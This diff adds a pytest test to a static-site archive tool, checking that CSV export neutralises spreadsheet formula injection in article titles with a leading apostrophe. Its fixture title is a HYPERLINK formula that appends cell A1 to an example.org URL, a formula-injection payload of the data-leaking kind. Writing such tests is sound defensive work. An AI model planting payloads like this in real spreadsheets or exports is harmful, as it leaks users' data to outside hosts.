@@ -68,6 +68,32 @@ def test_archive_exports_have_one_row_per_article(fixture_site):
     assert rows[1]["places"] == "phường Mỹ Thạnh, thành phố Long Xuyên, tỉnh An Giang"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_csv_cell_that_looks_like_a_formula_is_kept_as_text(tmp_path, start):
+    """OWASP CSV injection: a title starting with =, +, -, @ (a field's leading tab or CR
+    is stripped when it is read; a cell with one gets the same) is written with a leading
+    "'" in archive.csv, so a spreadsheet shows it as text; archive.json keeps the exact value."""
+    from archivist.build.exports import _inert
+
+    assert [_inert(c) for c in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]
+    import shutil
+
+    shutil.copytree(FIXTURE, tmp_path / "site", ignore=shutil.ignore_patterns(".cache", "output"))
+    article = tmp_path / "site" / "content" / "ngay-day-du.md"
+    title = f'{start}HYPERLINK("http://example.org/?x="&A1,"Bấm")'
+    text = article.read_text(encoding="utf-8")
+    article.write_text(re.sub(r"(?m)^title: .*$", "title: " + json.dumps(title, ensure_ascii=False), text, count=1),
+                       encoding="utf-8")
+    project = Project.at(tmp_path / "site", templates=ROOT / "templates")
+    build(project, base_url="https://example.org/")
+    raw = (project.output / "archive.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    assert [row["title"] for row in rows if "HYPERLINK" in row["title"]] == ["'" + title]
+    data = json.loads((project.output / "archive.json").read_text(encoding="utf-8"))
+    assert [a["title"] for a in data["articles"] if "HYPERLINK" in a["title"]] == [title]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+
 class _Head(HTMLParser):
     def __init__(self):
         super().__init__()
